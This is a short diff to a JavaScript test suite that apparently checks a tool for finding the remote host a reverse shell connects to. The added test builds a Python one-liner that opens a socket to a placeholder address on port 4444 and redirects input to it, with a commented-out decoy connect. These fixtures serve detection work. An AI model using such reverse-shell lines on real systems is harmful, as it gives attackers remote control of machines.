@@ -304,6 +304,10 @@ describe('the far end that a shell is attached to', () => {
     const real = 's=socket.socket();s.connect(("203.0.113.9",4444))';
     expect(alone(python(decoy, real))).toEqual(expected);
     expect(alone(python(real, decoy))).toEqual(expected);
+    const comment = '# s.connect(("198.51.100.1",22))';
+    expect(alone(`python3 -c '${comment}\nimport os\n  ${comment}\n${real}\nos.dup2(s.fileno(),0)'`)).toEqual(
+      expected,
+    );
   });
 
   it('is the first of several, and one on this machine only where there is no other', () => {
